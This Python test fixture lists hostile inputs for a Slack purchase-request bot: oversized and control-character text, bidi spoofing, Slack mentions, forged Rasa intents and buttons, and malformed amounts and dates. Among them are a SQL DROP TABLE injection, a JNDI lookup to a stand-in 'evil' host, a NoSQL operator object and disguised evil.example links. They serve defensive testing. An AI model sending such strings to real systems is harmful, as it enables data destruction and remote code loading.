"""Hostile input for every entry point: what a requester, a forged request or a careless admin
can type. One list, used by tests/bad_input/test_*.py and the fault docs (docs/faults.md).

Each entry has an id (for test names), the value, and its kind:
- "text": anything typed; no entry point may crash on it, and Slack must never see it live;
- "amount": typed as a price; `AMOUNT_READS` says which ones read as a price and as what;
- "date": typed as a needed-by date; none of them is a date a request can be needed by;
- "value": a JSON value that is not text (numbers, null, lists, objects), for JSON entry points.
"""
from __future__ import annotations

from decimal import Decimal
from typing import Any, Dict, List, NamedTuple


class Hostile(NamedTuple):
    id: str
    value: Any
    kind: str  # "text", "amount", "date" or "value"


LONG = ("I need pens " * 4000)[:40_000]  # Slack's own limit for a message
CONTROL = "".join(chr(c) for c in range(0x20)) + "\x7f"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"

TEXTS: List[Hostile] = [Hostile(*entry, "text") for entry in [
    ("long-40000", LONG),
    ("long-10001", "x" * 10_001),
    ("one-long-word", "a" * 5_000),
    ("empty", ""),
    ("blank", " \t\n \u00a0\u3000 "),
    ("control", f"pens{CONTROL}from Staples"),
    ("nul", "\x00"),
    ("escape-sequences", "\x1b[2J\x1b[31mred\x1b[0m \r overwritten"),
    ("bidi", f"pens from \u202eselpatS\u202c and \u2066Staples\u2069 {BIDI}"),
    ("zero-width", f"Sta{ZERO_WIDTH}ples"),
    ("line-separators", "line\u2028paragraph\u2029end\r\nwindows"),
    ("channel", "<!channel> need pens"),
    ("here", "<!here>"),
    ("everyone", "<!everyone> <!subteam^S0123|@admins>"),
    ("user-mention", "<@U123> <@U01AMINA|amina> approve this"),
    ("channel-link", "<#C123> <#C0APPROVALS|microbuy-approvals>"),
    ("disguised-link", "<https://evil.example|canada.ca> pens"),
    ("mailto", "<mailto:ceo@evil.example|the deputy minister>"),
    ("pre-escaped", "&lt;!channel&gt; &amp;amp; &#60;@U123&#62;"),
    ("mrkdwn", "*bold* _x_ ~strike~ `code` ```block``` > quote"),
    ("emoji", "🖊️🖊️ pens 👍🏽 :rotating_light: 👨‍👩‍👧‍👦"),
    ("rtl-arabic", "أحتاج إلى أقلام من ستيبلز بسعر ٢٥ دولارًا"),
    ("rtl-hebrew", "אני צריך עטים מ-Staples"),
    ("sql", "'; DROP TABLE purchase_requests; --"),
    ("json-half", '{"a":'),
    ("json-deep", "[" * 3_000),
    ("format-strings", "{reason} {0} %s%s%n {{7*7}} {% raw %} ${jndi:ldap://evil}"),
    ("rasa-intent-affirm", "/affirm"),
    ("rasa-intent-entities", '/inform{"unit_price": "-5", "quantity": 0, "requester": "U01AMINA"}'),
    ("rasa-revise-someone-else", '/revise_request{"request_id": 1, "fields": ["supplier"]}'),
    ("rasa-restart", "/restart"),
    ("rasa-session-start", "/session_start"),
    ("rasa-back", "/back"),
    ("rasa-broken-intent", '/inform{"unit_price": '),
    ("lone-surrogate", "pens \ud800 from Staples"),
    ("private-use", "\ue000\U000f0000 noncharacter \uffff"),
    ("combining", "S\u0336t\u0336a\u0336p\u0336l\u0336e\u0336s" + "\u0301" * 500),
]]

# Rasa intents typed as text. By design this one says nothing (someone else's request is not even
# acknowledged), and the channel answers an empty turn with its generic "nothing was submitted,
# please try again" (custom payload {"type": "error", "error": "turn_failed"}).
SILENT_INTENTS = {"rasa-revise-someone-else"}
# Rasa's own commands that would wipe or rewind the conversation: taken as "cancel", which asks first.
WIPING_COMMANDS = {"rasa-restart", "rasa-session-start", "rasa-back"}

AMOUNTS: List[Hostile] = [Hostile(*entry, "amount") for entry in [
    ("amount-NaN", "NaN"),
    ("amount-nan", "nan"),
    ("amount-inf", "inf"),
    ("amount-Infinity", "-Infinity"),
    ("amount-negative", "-5"),
    ("amount-exponent", "1e9"),
    ("amount-european", "1.234,50"),
    ("amount-spaced-european", "1 234,50"),
    ("amount-accounting", "(500)"),
    ("amount-negative-zero", "$-0"),
    ("amount-zero", "0"),
    ("amount-tiny", "0.001"),
    ("amount-huge", "9" * 60),
    ("amount-billion", "$1,000,000,000"),
    ("amount-arabic-indic", "٣٠٠"),
    ("amount-fullwidth", "３００"),
    ("amount-other-currency", "€300"),
    ("amount-words", "three hundred"),
]]

# What each amount reads as where a price is asked (dialogues.answers.read_amount, en_CA); every
# other amount is refused with what to type instead. Digits of other scripts are digits.
AMOUNT_READS: Dict[str, Decimal] = {
    "amount-arabic-indic": Decimal("300.00"),
    "amount-fullwidth": Decimal("300.00"),
}

DATES: List[Hostile] = [Hostile(*entry, "date") for entry in [
    ("date-feb-31", "2026-02-31"),
    ("date-feb-30-words", "Feb 30"),
    ("date-month-31", "31/31/2026"),
    ("date-yesterday", "yesterday"),
    ("date-1900", "1900-01-01"),
    ("date-year-0", "0000-00-00"),
    ("date-far-future", "9999-12-31"),
    ("date-huge-year", "99999999-01-01"),
]]

VALUES: List[Hostile] = [Hostile(*entry, "value") for entry in [
    ("null", None),
    ("true", True),
    ("zero", 0),
    ("negative", -5),
    ("float", 1e9),
    ("huge-int", 10 ** 400),
    ("list", ["pens"]),
    ("object", {"$gt": ""}),
]]

# Forged `value`s of a decision or after-approval button (microbuy's are JSON such as
# {"r": 12, "v": 1, "s": 0}). None: the field is left out of the click.
FORGED_BUTTONS: List[Hostile] = [Hostile(*entry, "button") for entry in [
    ("missing", None),
    ("empty", ""),
    ("not-json", "not json"),
    ("wrong-shape", '{"r": "drop table"}'),
    ("list", "[1, 2, 3]"),
    ("negative-id", '{"r": -1, "v": 1, "s": 0}'),
    ("boolean-id", '{"r": true, "v": 1, "s": 0}'),
    ("float-id", '{"r": 1.5, "v": 1, "s": 0}'),
    ("nan-id", '{"r": NaN, "v": 1, "s": 0}'),
    ("huge-id", '{"r": 99999999999999999999, "v": 1, "s": 0}'),
    ("unknown-request", '{"r": 987654, "v": 1, "s": 0}'),
    ("nested-too-deep", "[" * 1_500 + "]" * 1_500),
    ("oversized", "x" * 40_000),
    ("mention", "<!channel> <@U123>"),
]]

ALL: List[Hostile] = TEXTS + AMOUNTS + DATES
STRINGS: List[Hostile] = [h for h in ALL if isinstance(h.value, str)]


def ids(entries) -> List[str]:
    return [entry.id for entry in entries]
